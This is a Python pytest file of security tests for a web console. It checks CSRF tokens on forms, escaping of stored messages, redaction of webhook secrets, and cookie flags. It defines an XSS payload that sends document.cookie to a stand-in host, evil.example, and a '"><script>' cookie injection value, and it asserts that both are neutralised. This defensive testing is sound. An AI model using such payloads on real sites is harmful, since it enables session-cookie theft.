"""Attacks on pages of the house: the kill switch, doubts, dead letters, accounts, settings, a browser's memory."""

from __future__ import annotations

from typing import Any

import pytest
from markupsafe import Markup

from mainstay.adapters.base import Item
from mainstay.config.recorded import shown
from mainstay.kernel.commands import RejectMessage
from mainstay.runtime.tick import Request
from tests.security.attacks import attack
from tests.security.web_house import WebHouse

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
FORMS = (
    ("/", {"run": "x", "task": "1"}),
    ("/stop", {"answer": "stop", "reason": "planted"}),
    ("/doubts", {"run": "x", "task": "1", "answer": "happened"}),
    ("/doubts/letters/0123456789abcdef", {"answer": "away"}),
    ("/adapters", {"adapter": "support", "answer": "pause"}),
    ("/settings/theme", {"theme": "dark"}),
    ("/settings/keys", {"keys": "off"}),
    ("/devices", {"device": "0"}),
)


def always(value: Any) -> Any:
    return lambda *_, **__: value


@attack(("mainstay.console.csrf", "is_right", always(True)))
@pytest.mark.parametrize(("path", "fields"), FORMS, ids=[path for path, _ in FORMS])
def test_no_form_of_the_house_is_taken_without_its_token(
    web: WebHouse, path: str, fields: dict[str, str]
) -> None:
    browser = web.log_in()
    other = browser.get("/devices").token_of("/logout")
    before = web.head
    try:
        for token in ("", "0" * 32, other):
            answer = browser.post(path, {"form_token": token, **fields})
            assert (answer.status, answer.cookies) == (403, ()), path
        assert web.head == before
    finally:  # whatever a planted weakness let through
        if web.front.status()["kill_switch"]:
            browser.post("/stop", {"form_token": browser.get("/stop").token_of("/stop"), "answer": "go-on"})
        if web.rows("pauses"):
            fields = {"form_token": browser.get("/adapters").token_of("/adapters"), "adapter": "support"}
            browser.post("/adapters", {**fields, "answer": "resume"})


@attack(("mainstay.workspace.workspace", "Workspace.rejected_text", lambda *_, **__: Markup(SCRIPT.decode())))
def test_a_message_that_could_not_be_read_runs_nothing_where_it_is_looked_at(web: WebHouse) -> None:
    ingest = next(iter(web.service.ingests.values()))

    def rejected() -> Request:
        command = ingest._commands._rejected(Item(SCRIPT, web.clock.now(), "<b>by hand</b>"), "<i>no</i>")
        return Request(command, "director", blobs=ingest._artifacts.take_staged())

    request = web.call(rejected)
    assert isinstance(request.command, RejectMessage)
    web.ask(web.service.loop.ask(request))
    browser = web.log_in()
    for path in ("/doubts", f"/doubts/letters/{request.command.item_key}", "/"):
        answer = browser.get(path)
        assert answer.status == 200
        for markup in ("<script>", "<b>by hand", "<i>no"):
            assert markup not in answer.text, path
    assert "&lt;script&gt;" in browser.get(f"/doubts/letters/{request.command.item_key}").text


@attack(("mainstay.config.recorded", "_host", lambda url: url))
def test_an_address_that_is_as_good_as_a_password_is_not_shown(web: WebHouse) -> None:
    raw = b'[notify.webhook]\nurl = "https://hooks.example.org/T0/s3cret"\nsecret = "env:HOOK"\n'
    told = repr(shown(raw, web.root))
    assert "hooks.example.org" in told
    assert "s3cret" not in told


@attack(
    ("mainstay.console.pages.settings", "remember", lambda answer, *said: answer.set_cookie(said[1], said[2]))
)
def test_what_a_browser_remembers_is_for_no_script_and_no_other_site(web: WebHouse) -> None:
    browser = web.log_in()
    token = browser.get("/settings").token_of("/settings/theme")
    cookie = browser.post("/settings/theme", {"form_token": token, "theme": "dark"}).cookies[0].lower()
    assert "httponly" in cookie
    assert "samesite=strict" in cookie


@attack(("mainstay.console.preferences", "THEMES", ('"><script>', "system")))
def test_what_a_cookie_claims_is_one_of_our_words_or_nothing(web: WebHouse) -> None:
    browser = web.log_in()
    browser.cookies["mainstay-theme"] = '"><script>'
    text = browser.get("/settings").text
    assert "data-theme" not in text
    assert 'data-keys="on"' in text
